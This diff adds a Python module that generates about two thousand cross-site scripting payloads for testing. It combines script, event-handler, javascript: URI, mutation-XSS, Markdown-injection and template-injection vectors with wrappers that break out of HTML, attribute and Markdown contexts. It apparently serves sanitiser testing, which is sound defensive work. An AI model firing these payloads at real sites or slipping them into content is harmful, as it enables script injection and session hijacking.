@@ -1,0 +1,120 @@
+"""Two thousand texts that would run a script if any page took them for markup."""
+
+# RUN is what shows that it ran, NN the payload's number. Some are known to have
+# got past a sanitiser once, because the browser read its answer in another way.
+VECTORS = (
+    "<script>RUN</script>",
+    "<ScRiPt >RUN</sCrIpT >",
+    "<script src=data:text/javascript,RUN></script>",
+    "<script type=module>RUN</script>",
+    "<img src=x onerror=RUN>",
+    '<img src=x OnErRoR="RUN">',
+    "<img/src=x/onerror=RUN>",
+    "<img src=x\nonerror\n=\nRUN>",
+    "<img src=x onerror\f=RUN>",
+    "<svg onload=RUN>",
+    "<svg><script>RUN</script></svg>",
+    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
+    '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
+    "<svg><a><set attributeName=href to=javascript:RUN /><text y=20>x</text></a></svg>",
+    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
+    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
+    '<svg><desc><noscript><a title="</noscript><img src=x onerror=RUN>">',
+    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x'
+    ' onerror=RUN&gt;">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
+    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
+    "<body onload=RUN><body onpageshow=RUN>",
+    "<iframe src=javascript:parent.RUN></iframe>",
+    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
+    '<object data="data:text/html,<script>RUN</script>"></object>',
+    "<embed src=javascript:RUN>",
+    "<details open ontoggle=RUN>x</details>",
+    "<input autofocus onfocus=RUN>",
+    "<button formaction=javascript:RUN onmouseenter=RUN>x</button>",
+    "<video><source onerror=RUN></video>",
+    "<audio src=x onerror=RUN></audio>",
+    "<marquee onstart=RUN>x</marquee>",
+    "<style onload=RUN></style>",
+    "<style>@import '//x.example/NN.css';*{background:url(//x.example/NN)}</style>",
+    "<link rel=stylesheet href=//x.example/NN.css onerror=RUN>",
+    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
+    "<base href=//x.example/NN/>",
+    '<p style="background:url(//x.example/NN)" onmouseover=RUN>x</p>',
+    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
+    "<a href=javascript:RUN>x</a>",
+    '<a href="java&#9;script:RUN">x</a>',
+    '<a href="&#106;avascript&colon;RUN">x</a>',
+    '<a href=" &#1; JaVaScRiPt:RUN" target=_blank>x</a>',
+    '<a href="data:text/html,<script>RUN</script>">x</a>',
+    "<a href=vbscript:RUN onclick=RUN>x</a>",
+    "[x](javascript:RUN)",
+    "[x](<java&#x73;cript:RUN> 't\" onmouseover=RUN x=')",
+    '![x](javascript:RUN "x\' onerror=RUN")',
+    '![x" onerror="RUN](x)',
+    "<javascript:RUN>",
+    "[x][rNN]\n\n[rNN]: javascript:RUN",
+    "x[^nNN]\n\n[^nNN]: <img src=x onerror=RUN>",
+    "x[^\"><img/src=x/onerror=RUN>]\n\n[^\"><img/src=x/onerror=RUN>]: x",
+    "## x {#\"onclick=RUN} <img src=x onerror=RUN>",
+    "{{ cycler.__init__.__globals__ }}{% print(1) %}<img src=x onerror=RUN>",
+    '" autofocus onfocus=RUN onmouseover=RUN x="',
+    "' autofocus onfocus=RUN onmouseover=RUN x='",
+    "</script><script>RUN</script>",
+    "*/RUN//';RUN//\";RUN//`;RUN//",
+    "\uff1cimg src=x onerror=RUN\uff1e\u2039script\u203aRUN",
+    "\\u003cimg src=x onerror=RUN\\u003e&lt;img src=x onerror=RUN&gt;",
+    "\u202e<img src=x onerror=RUN>\u200b<\u200bscript>RUN</script>",
+)  # fmt: skip
+
+# Where a page might put a text, and what an author might put around it; VV is a vector.
+WRAPPERS = (
+    "VV",
+    '">VV',
+    "'>VV",
+    "`\"'/>VV",
+    "</p></div></main>VV",
+    "</textarea>VV",
+    "</title>VV",
+    "</script>VV",
+    "</style></select>VV",
+    "--><!---->VV",
+    "<!--VV",
+    "<!--><!--!>VV",
+    "]]>VV",
+    "<![CDATA[VV",
+    "<?php VV",
+    "{{VV}}",
+    "{% raw %}VV",
+    "**VV**",
+    "`VV",
+    "> VV",
+    "- [ ] VV",
+    "a | b\n--- | ---\nVV | x",
+    "# VV",
+    "::: VV",
+    "    VV",
+    "~~~ {VV}\nVV\n~~~",
+    "[VV](https://a.example)",
+    "![VV](pictures/shown.png)",
+    '[x](https://a.example "VV")',
+    '<div title="VV">',
+    "<b id='VV' lang=\"VV\">",
+    "<xmp>VV</xmp>",
+    "<svg>VV</svg>",
+    "<math><mtext>VV</mtext></math>",
+)
+
+# A value in the page, a window over it, a question to another server; none needs a quotation mark.
+RUNS = ("__ran=NN", "alert(NN)", r"fetch(/\/x.example\/NN/.source)")
+
+
+def make_payloads():
+    """Return every vector in every wrapper, each with the number of its place in the list."""
+    pairs = [wrapper.replace("VV", vector) for vector in VECTORS for wrapper in WRAPPERS]
+    return [
+        payload.replace("RUN", RUNS[number % len(RUNS)]).replace("NN", str(number))
+        for number, payload in enumerate(pairs)
+    ]
